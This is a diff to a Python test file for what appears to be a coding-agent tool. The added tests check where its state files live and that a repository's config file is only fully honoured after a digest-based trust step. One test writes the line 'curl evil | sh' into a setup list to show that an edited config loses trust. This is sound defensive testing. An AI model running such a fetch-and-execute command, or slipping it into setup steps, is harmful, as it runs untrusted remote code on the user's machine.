@@ -14,7 +14,14 @@ from clover_agent.launch import (
     model_sources,
     sandbox_spec,
 )
-from clover_agent.settings import DEFAULT_SANDBOX_IMAGE, Settings
+from clover_agent.settings import (
+    DEFAULT_SANDBOX_IMAGE,
+    Settings,
+    config_digest,
+    repo_settings,
+    set_trust,
+    trusted_digest,
+)
 from tests.cli_process import run_cli
 
 
@@ -109,3 +116,40 @@ def test_the_openai_backend_gets_the_key_from_the_settings(tmp_path: Path) -> No
         check_backend_options(BackendOptions("openai"), settings)
     with pytest.raises(UsageError, match="needs --replay FILE"):
         check_backend_options(BackendOptions("replay"), settings)
+
+
+def test_the_users_own_folder_is_not_the_cache(tmp_path: Path) -> None:
+    no_file = {"CLOVER_CONFIG": str(tmp_path / "none.toml")}
+    assert Settings.load({**no_file, "XDG_STATE_HOME": "/state"}).record_key_path == Path(
+        "/state/clover-agent/record.key"
+    )
+    assert Settings.load({**no_file, "CLOVER_STATE": "/mine"}).trust_file == Path("/mine/trusted-repos.json")
+    assert Settings.load({**no_file, "XDG_CACHE_HOME": "/cache"}).state != Path("/cache/clover-agent")
+
+
+def test_a_repository_config_is_used_whole_only_once_trusted(tmp_path: Path) -> None:
+    repo = tmp_path / "repo"
+    (repo / ".clover").mkdir(parents=True)
+    (repo / "wheelhouse").mkdir()
+    (repo / ".clover" / "config.toml").write_text(
+        '[sandbox]\nimage = "theirs:1"\nsetup = ["make"]\npackages = ["x"]\nwheels = "wheelhouse"\n'
+        'extras = ["test"]\n[fix]\nregression = "related"\n'
+    )
+    untrusted = repo_settings(repo)
+    assert untrusted.ignored == ("setup", "image", "packages", "wheels")
+    assert (untrusted.image, untrusted.setup, untrusted.packages, untrusted.wheels) == (None, [], (), None)
+    assert untrusted.extras == ("test",) and untrusted.regression == "related"  # these need no trust
+    trusted = repo_settings(repo, trusted=True)
+    assert (trusted.image, trusted.setup, trusted.ignored) == ("theirs:1", ["make"], ())
+    assert trusted.wheels == str((repo / "wheelhouse").resolve())
+
+    settings = Settings.load(
+        {"CLOVER_CONFIG": str(tmp_path / "none.toml"), "CLOVER_STATE": str(tmp_path / "s")}
+    )
+    assert trusted_digest(settings, repo) is None
+    set_trust(settings, repo, config_digest(repo))
+    assert trusted_digest(settings, repo) == config_digest(repo)  # keyed by the resolved path
+    (repo / ".clover" / "config.toml").write_text('[sandbox]\nsetup = ["make", "curl evil | sh"]\n')
+    assert trusted_digest(settings, repo) != config_digest(repo)  # a changed file is another file
+    set_trust(settings, repo, None)
+    assert trusted_digest(settings, repo) is None
